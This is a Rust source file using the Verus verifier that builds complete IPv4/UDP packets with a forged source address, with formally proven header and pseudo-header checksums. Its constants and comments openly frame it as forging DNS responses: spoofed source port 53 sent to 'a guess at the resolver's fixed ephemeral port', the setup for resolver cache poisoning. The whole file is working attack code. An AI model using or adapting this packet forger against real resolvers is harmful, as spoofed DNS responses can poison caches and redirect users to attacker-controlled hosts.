//! Hand-built IPv4 and UDP frames with a forged source address: fixed
//! header fields per RFC 791 and RFC 768, and verified one's-complement
//! checksums over the header and the pseudo-header.

use crate::be_bytes::{push_bytes, push_u16_be, spec_u16_be};
use crate::checksum::{
    checksum, lemma_sum_append, lemma_words_append, spec_checksum, spec_oc_canon, spec_sum,
    spec_words,
};
use vstd::arithmetic::div_mod::{lemma_fundamental_div_mod, lemma_mod_multiples_vanish};
use vstd::prelude::*;

verus! {

/// Source port a forged response claims to come from: the DNS port.
pub const SPOOFED_SRC_PORT: u16 = 53;

/// Destination port forged responses are sent to: a guess at the
/// resolver's fixed ephemeral port.
pub const TARGET_DST_PORT: u16 = 33333;

/// Bytes in an IPv4 header without options.
pub const IP_HEADER_BYTES: usize = 20;

/// Bytes in a UDP header.
pub const UDP_HEADER_BYTES: usize = 8;

/// The first ten bytes of the IPv4 header: version 4, five 32-bit words,
/// no service bits, the given total length, zero identification, the
/// don't-fragment flag, TTL 64, protocol UDP.
pub open spec fn spec_ipv4_prefix(total_len: u16) -> Seq<u8> {
    seq![0x45u8, 0u8] + spec_u16_be(total_len) + seq![0u8, 0u8, 0x40u8, 0u8, 64u8, 17u8]
}

/// The 20-byte IPv4 header with its checksum field filled in: the
/// complement of the one's-complement sum over the header with that
/// field zeroed.
pub open spec fn spec_ipv4_header(src: Seq<u8>, dst: Seq<u8>, total_len: u16) -> Seq<u8> {
    let ck = spec_checksum(spec_ipv4_prefix(total_len) + seq![0u8, 0u8] + src + dst);
    spec_ipv4_prefix(total_len) + spec_u16_be(ck) + src + dst
}

/// The pseudo-header mixed into the UDP checksum: both addresses, a zero
/// byte, the UDP protocol number, and the UDP length.
pub open spec fn spec_pseudo_header(src: Seq<u8>, dst: Seq<u8>, udp_len: u16) -> Seq<u8> {
    src + dst + seq![0u8, 17u8] + spec_u16_be(udp_len)
}

/// The first six bytes of the UDP header: ports and length.
pub open spec fn spec_udp_prefix(src_port: u16, dst_port: u16, udp_len: u16) -> Seq<u8> {
    spec_u16_be(src_port) + spec_u16_be(dst_port) + spec_u16_be(udp_len)
}

/// The UDP checksum field: the complement of the one's-complement sum
/// over pseudo-header, UDP header with zero checksum, and payload; a
/// zero result is transmitted as 0xffff (RFC 768).
pub open spec fn spec_udp_checksum(
    src: Seq<u8>,
    dst: Seq<u8>,
    src_port: u16,
    dst_port: u16,
    payload: Seq<u8>,
) -> u16 {
    let udp_len = (8 + payload.len()) as u16;
    let ck = spec_checksum(
        spec_pseudo_header(src, dst, udp_len) + spec_udp_prefix(src_port, dst_port, udp_len)
            + seq![0u8, 0u8] + payload,
    );
    if ck == 0 {
        0xffff
    } else {
        ck
    }
}

/// The UDP datagram: header with computed checksum, then the payload.
pub open spec fn spec_udp_datagram(
    src: Seq<u8>,
    dst: Seq<u8>,
    src_port: u16,
    dst_port: u16,
    payload: Seq<u8>,
) -> Seq<u8> {
    let udp_len = (8 + payload.len()) as u16;
    spec_udp_prefix(src_port, dst_port, udp_len) + spec_u16_be(
        spec_udp_checksum(src, dst, src_port, dst_port, payload),
    ) + payload
}

/// The complete forged frame: an IPv4 header from the spoofed source to
/// the target around a UDP datagram from port 53 to port 33333.
pub open spec fn spec_forged_packet(src: Seq<u8>, dst: Seq<u8>, payload: Seq<u8>) -> Seq<u8> {
    spec_ipv4_header(src, dst, (28 + payload.len()) as u16) + spec_udp_datagram(
        src,
        dst,
        SPOOFED_SRC_PORT,
        TARGET_DST_PORT,
        payload,
    )
}

/// Inserting the checksum makes the one's-complement sum verify: for any
/// even-length prefix, summing the words of prefix, checksum field and
/// suffix gives 0xffff.  This holds both for the plain complement and,
/// when that is zero, for the 0xffff put on the wire in its place.
pub proof fn lemma_checksum_verifies(prefix: Seq<u8>, suffix: Seq<u8>, c: u16)
    requires
        prefix.len() % 2 == 0,
        ({
            let c0 = spec_checksum(prefix + seq![0u8, 0u8] + suffix);
            c == c0 || (c0 == 0 && c == 0xffff)
        }),
    ensures
        spec_oc_canon(spec_sum(spec_words(prefix + spec_u16_be(c) + suffix))) == 0xffff,
{
    let zero_body = prefix + seq![0u8, 0u8] + suffix;
    let body = prefix + spec_u16_be(c) + suffix;
    lemma_words_append(prefix, seq![0u8, 0u8] + suffix);
    lemma_words_append(prefix, spec_u16_be(c) + suffix);
    assert(zero_body =~= prefix + (seq![0u8, 0u8] + suffix));
    assert(body =~= prefix + (spec_u16_be(c) + suffix));
    assert(seq![0u8, 0u8].len() == 2 && seq![0u8, 0u8][0] == 0 && seq![0u8, 0u8][1] == 0);
    lemma_u16_be_word(c);
    lemma_two_byte_words(seq![0u8, 0u8], suffix, 0);
    lemma_two_byte_words(spec_u16_be(c), suffix, c);
    lemma_sum_append(spec_words(prefix), spec_words(seq![0u8, 0u8] + suffix));
    lemma_sum_append(spec_words(prefix), spec_words(spec_u16_be(c) + suffix));
    lemma_sum_append(seq![0u16], spec_words(suffix));
    lemma_sum_append(seq![c], spec_words(suffix));
    assert(spec_sum(seq![0u16]) == 0) by {
        assert(seq![0u16].skip(1) =~= Seq::<u16>::empty());
        assert(seq![0u16][0] == 0u16);
        assert(spec_sum(Seq::<u16>::empty()) == 0);
    }
    assert(spec_sum(seq![c]) == c) by {
        assert(seq![c].skip(1) =~= Seq::<u16>::empty());
        assert(seq![c][0] == c);
        assert(spec_sum(Seq::<u16>::empty()) == 0);
    }
    let s0 = spec_sum(spec_words(zero_body));
    let s = spec_sum(spec_words(body));
    assert(s == s0 + c);
    crate::checksum::lemma_sum_bounds(spec_words(zero_body));
    let canon0 = spec_oc_canon(s0);
    let c0 = spec_checksum(zero_body);
    assert(c0 == 0xffff - canon0);
    crate::checksum::lemma_oc_canon_mod(s0);
    if c0 == 0 {
        assert(canon0 == 0xffff);
        assert(s0 > 0);
        lemma_fundamental_div_mod(s0 - 0xffff, 0xffff);
        let q = (s0 - 0xffff) / 0xffff;
        assert(s0 == 0xffff * q + 0xffff);
        assert(s0 == 0xffff * (q + 1)) by (nonlinear_arith)
            requires
                s0 == 0xffff * q + 0xffff,
        ;
        if c == 0 {
            assert(s == s0);
            assert(spec_oc_canon(s) == 0xffff);
        } else {
            assert(c == 0xffff);
            assert(s - 0xffff == 0xffff * (q + 1));
            lemma_mod_multiples_vanish(q + 1, 0, 0xffff);
            assert((s - 0xffff) % 0xffff == 0);
            crate::checksum::lemma_oc_canon_unique(s, 0xffff);
        }
    } else {
        assert(c == c0);
        assert(s == s0 + 0xffff - canon0);
        assert(s - 0xffff == s0 - canon0);
        assert(s > 0);
        crate::checksum::lemma_oc_canon_unique(s, 0xffff);
    }
}

/// The words of a two-byte chunk followed by a suffix: the chunk's word,
/// then the suffix's words.
proof fn lemma_two_byte_words(chunk: Seq<u8>, suffix: Seq<u8>, w: u16)
    requires
        chunk.len() == 2,
        (chunk[0] as int) * 256 + (chunk[1] as int) == w,
    ensures
        spec_words(chunk + suffix) == seq![w] + spec_words(suffix),
{
    let c = chunk + suffix;
    assert(c.len() >= 2);
    assert(c[0] == chunk[0] && c[1] == chunk[1]);
    assert(c.skip(2) =~= suffix);
    assert(spec_words(c) =~= seq![w] + spec_words(suffix));
}

/// The big-endian byte pair of a 16-bit value reads back as that value.
proof fn lemma_u16_be_word(x: u16)
    ensures
        (spec_u16_be(x)[0] as int) * 256 + (spec_u16_be(x)[1] as int) == x,
{
    assert(((x >> 8) as u8 as int) * 256 + ((x & 0xff) as u8 as int) == x) by (bit_vector);
}

/// The emitted IPv4 header checksum verifies: the one's-complement sum
/// over the ten header words is 0xffff.
pub proof fn lemma_ipv4_checksum_verifies(src: Seq<u8>, dst: Seq<u8>, total_len: u16)
    ensures
        spec_oc_canon(spec_sum(spec_words(spec_ipv4_header(src, dst, total_len)))) == 0xffff,
{
    let prefix = spec_ipv4_prefix(total_len);
    let ck = spec_checksum(prefix + seq![0u8, 0u8] + src + dst);
    assert(prefix.len() == 10);
    assert(prefix + seq![0u8, 0u8] + src + dst =~= prefix + seq![0u8, 0u8] + (src + dst));
    lemma_checksum_verifies(prefix, src + dst, ck);
    assert(spec_ipv4_header(src, dst, total_len) =~= prefix + spec_u16_be(ck) + (src + dst));
}

/// The emitted UDP checksum verifies: the one's-complement sum over the
/// pseudo-header, the UDP header and the payload is 0xffff.
pub proof fn lemma_udp_checksum_verifies(
    src: Seq<u8>,
    dst: Seq<u8>,
    src_port: u16,
    dst_port: u16,
    payload: Seq<u8>,
)
    requires
        src.len() == 4,
        dst.len() == 4,
    ensures
        ({
            let udp_len = (8 + payload.len()) as u16;
            spec_oc_canon(
                spec_sum(
                    spec_words(
                        spec_pseudo_header(src, dst, udp_len) + spec_udp_datagram(
                            src,
                            dst,
                            src_port,
                            dst_port,
                            payload,
                        ),
                    ),
                ),
            ) == 0xffff
        }),
{
    let udp_len = (8 + payload.len()) as u16;
    let prefix = spec_pseudo_header(src, dst, udp_len) + spec_udp_prefix(
        src_port,
        dst_port,
        udp_len,
    );
    let cf = spec_udp_checksum(src, dst, src_port, dst_port, payload);
    let c0 = spec_checksum(prefix + seq![0u8, 0u8] + payload);
    assert(prefix.len() == 18);
    assert(spec_pseudo_header(src, dst, udp_len) + spec_udp_prefix(src_port, dst_port, udp_len)
        + seq![0u8, 0u8] + payload =~= prefix + seq![0u8, 0u8] + payload);
    assert(cf == c0 || (c0 == 0 && cf == 0xffff));
    lemma_checksum_verifies(prefix, payload, cf);
    assert(spec_pseudo_header(src, dst, udp_len) + spec_udp_datagram(
        src,
        dst,
        src_port,
        dst_port,
        payload,
    ) =~= prefix + spec_u16_be(cf) + payload);
}

/// The 20-byte IPv4 header around a payload of the given total length.
pub fn build_ipv4_header(src: [u8; 4], dst: [u8; 4], total_len: u16) -> (r: Vec<u8>)
    ensures
        r@ == spec_ipv4_header(src@, dst@, total_len),
{
    let mut zeroed: Vec<u8> = Vec::new();
    push_ipv4_prefix(&mut zeroed, total_len);
    zeroed.push(0);
    zeroed.push(0);
    push_bytes(&mut zeroed, src.as_slice());
    push_bytes(&mut zeroed, dst.as_slice());
    proof {
        assert(zeroed@ =~= spec_ipv4_prefix(total_len) + seq![0u8, 0u8] + src@ + dst@);
    }
    let ck = checksum(zeroed.as_slice());
    let mut out: Vec<u8> = Vec::new();
    push_ipv4_prefix(&mut out, total_len);
    push_u16_be(&mut out, ck);
    push_bytes(&mut out, src.as_slice());
    push_bytes(&mut out, dst.as_slice());
    proof {
        assert(out@ =~= spec_ipv4_header(src@, dst@, total_len));
    }
    out
}

/// The UDP datagram with its pseudo-header checksum computed.
pub fn build_udp_datagram(
    src: [u8; 4],
    dst: [u8; 4],
    src_port: u16,
    dst_port: u16,
    payload: &[u8],
) -> (r: Vec<u8>)
    requires
        payload@.len() <= 65507,
    ensures
        r@ == spec_udp_datagram(src@, dst@, src_port, dst_port, payload@),
{
    let udp_len = (UDP_HEADER_BYTES + payload.len()) as u16;
    let mut body: Vec<u8> = Vec::new();
    push_bytes(&mut body, src.as_slice());
    push_bytes(&mut body, dst.as_slice());
    body.push(0);
    body.push(17);
    push_u16_be(&mut body, udp_len);
    push_u16_be(&mut body, src_port);
    push_u16_be(&mut body, dst_port);
    push_u16_be(&mut body, udp_len);
    body.push(0);
    body.push(0);
    push_bytes(&mut body, payload);
    proof {
        assert(body@ =~= spec_pseudo_header(src@, dst@, udp_len) + spec_udp_prefix(
            src_port,
            dst_port,
            udp_len,
        ) + seq![0u8, 0u8] + payload@);
    }
    let ck0 = checksum(body.as_slice());
    let ck = if ck0 == 0 {
        0xffffu16
    } else {
        ck0
    };
    let mut out: Vec<u8> = Vec::new();
    push_u16_be(&mut out, src_port);
    push_u16_be(&mut out, dst_port);
    push_u16_be(&mut out, udp_len);
    push_u16_be(&mut out, ck);
    push_bytes(&mut out, payload);
    proof {
        assert(out@ =~= spec_udp_datagram(src@, dst@, src_port, dst_port, payload@));
    }
    out
}

/// A complete forged frame: the payload as a UDP datagram from port 53
/// to port 33333, inside an IPv4 header whose source is the spoofed
/// address.
pub fn forge_packet(spoofed_src: [u8; 4], target_dst: [u8; 4], payload: &[u8]) -> (r: Vec<u8>)
    requires
        payload@.len() <= 65507,
    ensures
        r@ == spec_forged_packet(spoofed_src@, target_dst@, payload@),
{
    let total_len = (IP_HEADER_BYTES + UDP_HEADER_BYTES + payload.len()) as u16;
    let mut out = build_ipv4_header(spoofed_src, target_dst, total_len);
    let udp = build_udp_datagram(
        spoofed_src,
        target_dst,
        SPOOFED_SRC_PORT,
        TARGET_DST_PORT,
        payload,
    );
    push_bytes(&mut out, udp.as_slice());
    proof {
        assert(out@ =~= spec_forged_packet(spoofed_src@, target_dst@, payload@));
    }
    out
}

/// Appends the fixed first ten bytes of the IPv4 header.
fn push_ipv4_prefix(out: &mut Vec<u8>, total_len: u16)
    ensures
        final(out)@ == old(out)@ + spec_ipv4_prefix(total_len),
{
    out.push(0x45);
    out.push(0);
    push_u16_be(out, total_len);
    out.push(0);
    out.push(0);
    out.push(0x40);
    out.push(0);
    out.push(64);
    out.push(17);
    proof {
        assert(out@ =~= old(out)@ + spec_ipv4_prefix(total_len));
    }
}

} // verus!
